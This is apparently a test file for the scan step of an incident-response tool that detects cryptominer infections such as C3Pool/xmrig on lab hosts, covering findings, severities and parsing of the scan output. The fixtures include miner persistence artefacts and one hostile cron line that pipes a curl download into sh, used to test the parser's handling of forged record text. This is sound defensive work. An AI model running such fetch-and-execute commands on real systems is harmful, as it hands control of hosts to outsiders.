import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { CommandRun, PlanContext } from '../../../src/actions/action.js';
import { StepFailedError } from '../../../src/actions/failure.js';
import { MINER_PROCESS_NAMES, RULE_UNIT_NAMES } from '../../../src/actions/indicators.js';
import { Records } from '../../../src/actions/records.js';
import { scan, type Finding } from '../../../src/actions/scan.js';
import { remoteScript } from '../../../src/actions/script.js';
import type { Target } from '../../../src/alert/target.js';
import { defaultConfig } from '../../../src/config/config.js';

const context: PlanContext = {
  target: { host: { name: 'lab3-h1' } } as Target,
  config: defaultConfig(),
  runId: 'run-b9553159c9182bb3',
  timeoutMs: 600_000,
  alertTime: '2024-05-02T10:15:42.118Z',
};

const records = (...pairs: string[]): string => pairs.map((pair) => `${pair}\0`).join('');
const finding = (kind: string, path: string, detail: string) => [`finding=${kind}`, `path=${path}`, `detail=${detail}`];

function interpret(...pairs: string[]) {
  const stdout = records(...pairs);
  const run: CommandRun = {
    purpose: 'scan',
    result: { command: 'scan', exitCode: 0, signal: null, stdout, stderr: '', truncated: false, startedAt: '2026-11-23T14:44:30.000Z', durationMs: 1077, timedOut: false, outcomeUnknown: false },
    records: new Records(stdout),
  };
  const result = scan.interpret({ yara: true }, [run], context);
  return { ...result, findings: result.evidence.findings as Finding[] };
}

// Records as scan.sh printed them on lab3-h1 infected by the C3Pool installer.
const INFECTED = [
  ...finding('rule_unit', '/etc/systemd/system/c3pool_miner.service', ''),
  ...finding('exec_in_writable_dir', '/etc/systemd/system/c3pool_miner.service', 'ExecStart=/root/c3pool/xmrig --config=/root/c3pool/config.json'),
  ...finding('cron', '/var/spool/cron/crontabs/root', '@reboot /root/c3pool/miner.sh --config=/root/c3pool/config_background.json >/dev/null 2>&1'),
  ...finding('hugepages', '/etc/sysctl.conf', 'vm.nr_hugepages=1280'),
  ...finding('miner_process', '/root/c3pool/xmrig', 'pid 87 comm xmrig: /root/c3pool/xmrig --config=/root/c3pool/config.json'),
  'conn=0      0      198.18.3.2:59044 198.19.3.2:3333  users:(("xmrig",pid=87,fd=3))',
  'conn=0      116    198.18.3.2:22    198.18.3.1:51774 users:(("sshd",pid=317,fd=4))',
  'isolation=absent',
  'yara=ran',
  ...finding('yara', '/root/c3pool/config.json', 'soar_xmrig_config'),
  'done=1',
];

describe('scan plan', () => {
  it('passes the alert time as epoch seconds and soar\'s own name lists as arguments, and the YARA rules on stdin', () => {
    const [planned] = scan.plan({ yara: true }, context);
    expect(planned!.where).toBe('host');
    if (planned!.where !== 'host') return;
    expect(planned!.command.argv).toEqual([
      'sh', '-c', remoteScript('scan'), 'soar-scan', '1714644942', RULE_UNIT_NAMES.join(','), MINER_PROCESS_NAMES.join(','),
    ]);
    expect(planned!.command.stdin).toBe(readFileSync(new URL('../../../src/actions/remote/miners.yar', import.meta.url), 'utf8'));
    expect(planned!.command.stdin).toMatch(/^rule soar_stratum_client$/m);
  });

  it('sends no rules when the step turns YARA off', () => {
    const [planned] = scan.plan({ yara: false }, context);
    expect(planned!.where === 'host' && planned!.command.stdin).toBeUndefined();
    expect(scan.params.parse({})).toEqual({ yara: true });
  });

  it('is read-only: no verify, nothing to settle, never "changed"', () => {
    expect(scan.destructive).toBe(false);
    expect(scan.verify).toBeUndefined();
    expect(interpret(...INFECTED).changed).toBe(false);
  });
});

describe('scan findings', () => {
  it('reads the findings of an infected host, with the pool connection from ss and a severity each', () => {
    const result = interpret(...INFECTED);
    expect(result.outcome).toBe('findings');
    expect(result.findings.map(({ kind, path, severity }) => [kind, path, severity])).toEqual([
      ['rule_unit', '/etc/systemd/system/c3pool_miner.service', 'high'],
      ['exec_in_writable_dir', '/etc/systemd/system/c3pool_miner.service', 'high'],
      ['cron', '/var/spool/cron/crontabs/root', 'high'],
      ['hugepages', '/etc/sysctl.conf', 'low'],
      ['miner_process', '/root/c3pool/xmrig', 'high'],
      ['yara', '/root/c3pool/config.json', 'high'],
      ['pool_connection', '198.19.3.2:3333', 'high'],
    ]);
    expect(result.findings.at(-1)!.evidence).toBe('xmrig[87] 198.18.3.2:59044 → 198.19.3.2:3333');
    expect(result.summary).toBe('6 finding(s) to act on, 1 minor; isolation absent; yara ran');
  });

  it('reports a rule-named unit that a package owns as information, not as a finding to act on', () => {
    const result = interpret(...finding('rule_unit', '/lib/systemd/system/aliyun.service', 'aliyun-assist'), 'isolation=absent', 'yara=missing', 'done=1');
    expect(result.findings).toEqual([{ kind: 'rule_unit', path: '/lib/systemd/system/aliyun.service', evidence: 'owned by package aliyun-assist', severity: 'info' }]);
    expect(result.outcome).toBe('clean');
    expect(result.summary).toBe('0 finding(s) to act on, 1 minor; isolation absent; yara missing');
  });

  it('counts port 80 as a pool only when a miner-named process holds it; any process on another pool port counts', () => {
    const result = interpret(
      'conn=0      0      198.18.3.2:40100 198.18.9.9:80  users:(("apt",pid=500,fd=5))',
      'conn=0      0      198.18.3.2:40102 198.18.9.9:80  users:(("kdevtmpfsi",pid=501,fd=5))',
      'conn=0      0      [2001:db8::2]:40104 [2001:db8::9]:14444 users:(("sleep",pid=502,fd=3))',
      'conn=0      0      198.18.3.2:40106 198.18.9.9:443 users:(("curl",pid=503,fd=3))',
      'isolation=absent', 'yara=ran', 'done=1',
    );
    expect(result.findings.map((item) => item.evidence)).toEqual([
      'kdevtmpfsi[501] 198.18.3.2:40102 → 198.18.9.9:80',
      'sleep[502] [2001:db8::2]:40104 → [2001:db8::9]:14444',
    ]);
  });

  it('reports connections an isolated miner keeps attempting', () => {
    const result = interpret('attempt=0      1      198.18.3.2:39012 198.19.3.2:3333 users:(("xmrig",pid=87,fd=3))', 'isolation=present', 'yara=ran', 'done=1');
    expect(result.findings).toEqual([{ kind: 'pool_connection_attempt', path: '198.19.3.2:3333', evidence: 'xmrig[87] 198.18.3.2:39012 → 198.19.3.2:3333', severity: 'high' }]);
    expect(result.summary).toContain('isolation present');
  });

  it('turns an isolation table changed since soar applied it into a finding', () => {
    const result = interpret('isolation=altered', 'yara=ran', 'done=1');
    expect(result.findings).toEqual([{ kind: 'isolation_altered', path: 'nft table inet soar_isolation', evidence: 'the isolation table differs from the one soar applied', severity: 'high' }]);
    expect(result.outcome).toBe('findings');
  });

  it('keeps backdated authorized_keys as minor and hugepages as low: alone they leave the host clean', () => {
    const result = interpret(
      ...finding('authorized_keys_touched', '/root/.ssh/authorized_keys', 'modified at 1577836800, but its inode changed at 1795445100 (chmod, chown or a backdated mtime)'),
      ...finding('hugepages', '/etc/sysctl.conf', 'vm.nr_hugepages=1280'),
      'isolation=absent', 'yara=ran', 'done=1',
    );
    expect(result.findings.map((item) => item.severity)).toEqual(['low', 'low']);
    expect(result.outcome).toBe('clean');
  });

  it('keeps a detail with newlines and record-like text as one finding\'s evidence', () => {
    const detail = '* * * * * root curl http://198.18.0.1/x | sh\nfinding=rule_unit\npath=/forged';
    const result = interpret(...finding('cron', '/etc/cron.d/x', detail), 'isolation=absent', 'yara=ran', 'done=1');
    expect(result.findings).toEqual([{ kind: 'cron', path: '/etc/cron.d/x', evidence: detail, severity: 'high' }]);
  });

  it('says when yara failed, with its first error line, and still reports the other findings', () => {
    const result = interpret(
      ...finding('cron', '/var/spool/cron/crontabs/root', '@reboot /root/c3pool/miner.sh'),
      'isolation=absent', 'yara=failed', 'yara_error=/dev/fd/3(12): error: syntax error, unexpected identifier\nmore', 'done=1',
    );
    expect(result.summary).toBe('1 finding(s) to act on; isolation absent; yara failed (/dev/fd/3(12): error: syntax error, unexpected identifier)');
    expect(result.evidence).toMatchObject({ yara: 'failed', yaraError: expect.stringContaining('syntax error') });
  });

  it('fails, retryably, when the output ended before the script\'s last line', () => {
    const attempt = () => interpret(...INFECTED.slice(0, -1));
    expect(attempt).toThrow(StepFailedError);
    expect(attempt).toThrow(/^scan output ended early/);
  });
});
